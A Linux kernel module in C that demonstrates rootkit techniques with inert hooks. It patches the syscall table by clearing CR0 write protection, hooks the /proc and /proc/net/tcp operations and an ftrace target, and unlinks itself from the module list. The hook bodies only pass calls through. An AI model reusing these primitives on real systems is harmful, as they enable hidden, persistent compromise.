/*
 * rootkit.c - what rootkits do, without harm, for a guest that goes afterwards: an entry of the table of system calls, the
 * operations of /proc and those of /proc/net/tcp are replaced by functions that call the old ones, a function is hooked
 * by ftrace, and the module takes itself off the kernel's list.
 */
#include <linux/ftrace.h>
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <linux/version.h>

static int number, proc_ops;
module_param(number, int, 0); /* of the system call */
module_param(proc_ops, int, 0); /* where struct proc_dir_entry points to its operations */

typedef unsigned long (*finder)(const char *);
typedef long (*call)(const struct pt_regs *);

static call old_call;
static int (*old_show)(struct seq_file *, void *);
static int (*old_iterate)(struct file *, struct dir_context *);
static struct file_operations operations;

static long new_call(const struct pt_regs *registers)
{
	return old_call(registers);
}

static int new_show(struct seq_file *file, void *what)
{
	return old_show(file, what);
}

static int new_iterate(struct file *file, struct dir_context *context)
{
	return old_iterate(file, context);
}

#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 11, 0)
#define ftrace_regs pt_regs
#endif
static void at_entry(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *registers)
{
}

static struct ftrace_ops hook = { .func = at_entry };

/* Also where it may only be read. */
static void put(void **place, void *value)
{
	unsigned long control;
	preempt_disable();
	asm volatile("mov %%cr0, %0" : "=r"(control));
	asm volatile("mov %0, %%cr0" ::"r"(control & ~X86_CR0_WP) : "memory");
	WRITE_ONCE(*place, value);
	asm volatile("mov %0, %%cr0" ::"r"(control) : "memory");
	preempt_enable();
}

static finder symbols(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	finder found;
	if (register_kprobe(&probe))
		return 0;
	found = (finder)probe.addr;
	unregister_kprobe(&probe);
	return found;
}

static int __init begin(void)
{
	finder find = symbols();
	void **table, **shown, **ops;
	if (!find)
		return -ENOENT;
	table = (void **)find("sys_call_table");
	shown = (void **)&((struct seq_operations *)find("tcp4_seq_ops"))->show;
	ops = (void **)(find("proc_root") + proc_ops);
	old_call = table[number];
	put(&table[number], new_call);
	old_show = *shown;
	put(shown, new_show);
	operations = *(struct file_operations *)*ops;
	old_iterate = operations.iterate_shared;
	operations.iterate_shared = new_iterate;
	put(ops, &operations);
	ftrace_set_filter(&hook, "do_sys_openat2", 14, 0);
	register_ftrace_function(&hook);
	list_del_init(&THIS_MODULE->list);
	return 0;
}

module_init(begin);
MODULE_LICENSE("GPL");
MODULE_VERSION("1.0");
